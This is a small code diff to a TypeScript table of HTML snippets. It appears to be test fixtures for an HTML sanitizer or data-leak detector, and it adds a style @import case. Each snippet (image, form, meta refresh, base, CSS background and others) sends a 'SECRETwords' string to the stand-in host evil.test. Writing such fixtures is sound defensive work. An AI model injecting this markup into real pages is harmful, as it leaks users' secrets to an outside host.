@@ -22,6 +22,7 @@ const TELLING: Record<string, string> = {
   'an area': '<map><area href="https://evil.test/SECRETwords"></map>',
   'an image': '<img src="https://evil.test/SECRETwords">',
   'a refresh': '<meta http-equiv="refresh" content="0; url=https://evil.test/SECRETwords">',
+  'a style sheet of another host': '<style>@import "https://evil.test/SECRETwords";</style>',
   'a form': '<form action="https://evil.test/SECRETwords"></form>',
   'a base': '<base href="https://evil.test/SECRETwords">',
   'a background': '<p style="background:url(https://evil.test/SECRETwords)">Benign</p>',
